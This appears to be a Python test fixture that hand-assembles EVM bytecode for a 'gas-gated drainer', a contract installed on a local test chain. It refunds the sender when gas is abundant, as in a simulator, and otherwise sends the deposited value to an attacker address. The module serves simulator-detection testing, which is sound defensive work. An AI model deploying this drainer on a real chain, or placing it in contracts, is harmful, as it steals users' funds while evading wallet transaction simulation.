"""Hand-assembled runtime bytecode of simulation-evading contracts, installed with ``anvil_setCode``.

The fixture chain's Solidity contracts (anvil_fixtures/contracts) are compiled into its committed
state; these are too small to need a compiler and are written out opcode by opcode instead, so a
test can install one at any address of a chain of its own.
"""

from __future__ import annotations

GAS_THRESHOLD = 1_000_000
"""The gas-gated drainer refunds when more than this much gas is left (what a simulator that
ignores the gas limit gives it) and drains with less (what a wallet sends: ~35k estimated)."""


def gas_gated_drainer(attacker: str) -> bytes:
    """Runtime code of a ``receive`` that branches on ``gasleft()`` (RELIABILITY A8 case 46)::

    0x00  34          CALLVALUE
    0x01  15          ISZERO
    0x02  60 3d       PUSH1 0x3d
    0x04  57          JUMPI             ; no value: stop
    0x05  5a          GAS
    0x06  62 0f4240   PUSH3 1_000_000
    0x0a  10          LT                ; 1_000_000 < gasleft()
    0x0b  60 2f       PUSH1 0x2f
    0x0d  57          JUMPI             ; lots of gas (a simulator): refund
    0x0e  60 00 x4    PUSH1 0 (x4)      ; out, outlen, in, inlen
    0x16  34          CALLVALUE
    0x17  73 <20 b>   PUSH20 attacker
    0x2c  5a f1 00    GAS CALL STOP     ; the value goes to the attacker
    0x2f  5b          JUMPDEST
    0x30  60 00 x4    PUSH1 0 (x4)
    0x38  34 33       CALLVALUE CALLER
    0x3a  5a f1 00    GAS CALL STOP     ; the value goes back to the sender
    0x3d  5b 00       JUMPDEST STOP
    """
    target = bytes.fromhex(attacker.removeprefix("0x"))
    assert len(target) == 20
    code = (
        bytes.fromhex("3415603d57" + "5a62" + f"{GAS_THRESHOLD:06x}" + "10602f57" + "6000" * 4 + "3473")
        + target
        + bytes.fromhex("5af100" + "5b" + "6000" * 4 + "34335af100" + "5b00")
    )
    assert code[0x2F] == code[0x3D] == 0x5B, "jump targets"
    return code
